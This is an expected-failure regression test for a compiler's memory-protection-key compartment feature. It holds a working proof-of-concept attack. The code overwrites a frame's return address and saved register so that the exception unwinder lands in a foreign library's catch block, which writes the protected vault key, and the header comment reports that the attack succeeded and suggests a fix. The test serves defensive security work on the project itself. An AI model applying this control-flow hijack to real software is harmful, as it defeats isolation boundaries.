// Attacker model A (key-0 stores only; made here by the program's
// callback, hook, as a second thread could): review 64a's fix
// (runtime/unwind-copy.c, foreign_personality) stops a catch off the
// compartment's stacks only in objects it calls foreign
// (runtime/unwind-find.c: not the executable, no Bulkhead note). Code
// linked into the executable that Bulkhead did not build (a static
// library compiled by plain clang++, Inputs/rev65a-plain-lib.cpp) keeps
// its own personality routine: the vault's unwinder, steered by key-0
// words past its entry trampoline, lands in that code's catch (...) with
// the vault's rights and a register the attacker chose, and the catch
// writes the vault's key.
// How: as attacks-rev64a-shared-catch-unwind.cpp. main calls d2, d2 calls
// d1 (honest code, frame pointers; d1 keeps a pointer in rbx and saves
// its caller's rbx), d1 calls the vault's entry vault_check, which throws
// E{42}. The attacker learns the return address of lib_run_job's call of
// the job (inside try { } catch (...) { j->failed = 1; }) from the binary.
// Before the throw, hook stores into d1's frame (key-0 stack): d1's return
// address -> that call site; d1's saved rbx -> vault_key - 8 (the catch's
// j, so j->failed is the key's first word); the word the catch's tail
// call returns through -> landed. The unwinder (vault's rights): entry
// trampoline -> d1 (CFA out of the arena) -> lib_run_job (CFA out of the
// arena; the executable's, so not foreign): its catch (...) writes 1 into
// the vault's key with the vault's rights, then returns into landed (the
// program's code, any code of the attacker's choice), which notes its
// PKRU and tells thread 2 (default rights), which asks the vault whether
// its key is intact. Control: no stores: "caught E 42 in main", key
// intact.
// Seen on main at d545467 (LLVM 19, -O2 -fno-omit-frame-pointer, guest,
// 3 of 3): "landed reached with PKRU 0xfffffff0, not the default
// domain's", "ATTACK SUCCEEDED: the vault's key was overwritten";
// control: "caught E 42 in main", "vault key intact".
// Suggested fix: judge foreignness by code, not object: a frame whose
// code is outside the functions the pass compiled (e.g. a table of the
// pass's functions, or its landing pads, in read-only memory) gets
// foreign_personality wherever it lies, the executable included; or
// bulkhead-clang refuses links of objects without the pass's note, as it
// refuses -static-libstdc++.
// REQUIRES: pku
// XFAIL: *
// RUN: %clangxx -O2 -c %S/Inputs/rev65a-plain-lib.cpp -o %t.lib.o
// RUN: %bulkhead_clangxx -fpkey-compartments -O2 -fno-omit-frame-pointer %s %t.lib.o -o %t -lpthread
// RUN: %run %t control | FileCheck %s --check-prefix=CONTROL
// RUN: %run %t > %t.out 2>&1 || true
// RUN: FileCheck %s < %t.out
// CONTROL: caught E 42 in main
// CONTROL: vault key intact
// CHECK: attack: stored
// CHECK-NOT: ATTACK SUCCEEDED
// CHECK: {{vault key intact|bulkhead: error}}
// CHECK-NOT: ATTACK SUCCEEDED
#include "Inputs/vault-key.h"
#include <pthread.h>
#include <stdint.h>
#include <stdlib.h>
#include <unistd.h>

struct Job {
  void (*run)(void);
  int failed;
};
extern "C" void lib_run_job(Job *j);

/* Throws unless told not to (so callers' code after it stays). */
extern "C" BULKHEAD_ENTRY(vault) void vault_check(long code, int ok) {
  if (!ok)
    throw E{code};
}
static volatile int ok; /* 0 */

static int attack = 1;
static char *d1_fp;    /* d1's frame pointer: key-0 stack */
static uintptr_t site; /* lib_run_job: after the call in the try */
extern "C" {
volatile int arrived;
unsigned landed_pkru;
}
long sink; /* key 0, external: the store stays */

static unsigned pkru(void) {
  unsigned v;
  __asm__ volatile("xorl %%ecx, %%ecx\n\trdpkru" : "=a"(v) : : "ecx", "edx");
  return v;
}

/* Where the catch returns to: code of the program's that the pass does
 * not see as a function. Notes its rights, tells thread 2, waits. */
__asm__(".text\n"
        "landed:\n"
        "  xorl %ecx, %ecx\n"
        "  rdpkru\n"
        "  movl %eax, landed_pkru(%rip)\n"
        "  movl $1, arrived(%rip)\n"
        "1:\n"
        "  pause\n"
        "  jmp 1b\n");
static uintptr_t landed_at(void) {
  uintptr_t a;
  __asm__("leaq landed(%%rip), %0" : "=r"(a));
  return a;
}

/* Thread 2, the default domain's rights: reports once landed ran. */
static void *watch(void *) {
  while (!__atomic_load_n(&arrived, __ATOMIC_SEQ_CST))
    usleep(1000);
  unsigned mine = pkru();
  printf("landed reached with PKRU %#x%s\n", landed_pkru,
         landed_pkru != mine ? ", not the default domain's" : "");
  report(0, 0);
  printf("done\n");
  _exit(0);
}

/* The attacker's stores (a second thread could make them). d1_fp + 16 is
 * the landing rsp: the catch pops rbx there, and its tail call of
 * __cxa_end_catch returns through + 8. */
static __attribute__((noinline)) void hook(void) {
  if (!attack)
    return;
  uintptr_t *fp = (uintptr_t *)d1_fp;
  fp[1] = site;                      /* d1's return address */
  fp[-1] = (uintptr_t)vault_key - 8; /* d1's saved rbx: the catch's j */
  fp[3] = landed_at();               /* landing rsp + 8 */
  printf("attack: stored\n");
}

/* Honest default-domain code with frame pointers: d1 keeps s in rbx. */
extern "C" __attribute__((noinline)) void d1(long *s) {
  long *keep = s;
  d1_fp = (char *)__builtin_frame_address(0);
  hook();
  vault_check(42, ok);
  sink = *keep;
}

extern "C" __attribute__((noinline)) void d2(long *s) {
  d1(s);
  __asm__ volatile("");
}

/* The attacker's knowledge of the binary: lib_run_job's call of the job
 * (push rbx; mov rdi, rbx; call *(rdi)), as plain clang++ -O2 builds it. */
static int find_site(void) {
  static const uint8_t code[] = {0x53, 0x48, 0x89, 0xfb, 0xff, 0x17};
  const uint8_t *f;
  __asm__("leaq lib_run_job(%%rip), %0" : "=r"(f));
  if (memcmp(f, code, sizeof code))
    return 0;
  site = (uintptr_t)f + sizeof code;
  return 1;
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IONBF, 0);
  if (argc > 1 && !strcmp(argv[1], "control"))
    attack = 0;
  if (!find_site()) {
    printf("error: not the code this test was written for\n");
    return 2;
  }
  pthread_t t;
  pthread_create(&t, NULL, watch, NULL);
  long status = 0;
  try {
    d2(&status);
  } catch (E &e) {
    printf("caught E %ld in main\n", e.v);
  }
  report(0, status);
  printf("done\n");
  return 0;
}
